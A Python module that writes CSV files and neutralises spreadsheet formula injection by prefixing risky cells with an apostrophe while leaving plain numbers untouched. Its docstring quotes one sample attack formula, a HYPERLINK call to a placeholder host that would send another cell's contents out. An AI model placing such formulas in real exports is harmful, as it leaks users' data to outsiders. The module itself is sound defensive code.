"""The one CSV writer: every file the project writes goes through ``csv_text``.

A spreadsheet reads a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula
(some also one that starts with a tab, a carriage return or a line feed before one), so
a contact name ``=HYPERLINK("http://x?"&C2)`` would run in the data manager's Excel.
Such a cell gets a leading ``'`` (OWASP's CSV injection rule; ASVS 1.2.10 adds NUL),
which spreadsheets hide and read as "this is text". A plain number (``-2.5``,
``-0.109``, ``1e-5``) is left as it is, so the statisticians' files still parse as
numbers. Pure: imports nothing from Django.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Mapping, Sequence

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")
PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?", re.ASCII)


def safe_cell(value: object) -> str:
    """Return ``value`` as CSV cell text that no spreadsheet reads as a formula.

    ``None`` is an empty cell; numbers are written as numbers; text starting with a
    formula character gets a leading ``'`` unless it is a plain decimal number.
    """
    if value is None:
        return ""
    text = str(value)
    if text.startswith(FORMULA_START) and not PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def csv_text(columns: Sequence[str], rows: Iterable[Mapping[str, object]], *,
             ignore_extra: bool = False) -> str:
    """Return a CSV file (header, then one line per row) with every cell made safe.

    Lines end in CRLF as RFC 4180 says: with a bare LF, Python's writer would leave a
    cell holding a carriage return unquoted, and a spreadsheet would start a new row there.

    A row's keys outside ``columns`` are an error unless ``ignore_extra``; a missing
    key is an empty cell.
    """
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([safe_cell(c) for c in columns])
    known = set(columns)
    for row in rows:
        if not ignore_extra and not known.issuperset(row):
            raise ValueError(f"columns not in the file: {sorted(set(row) - known)}")
        writer.writerow([safe_cell(row.get(c)) for c in columns])
    return out.getvalue()
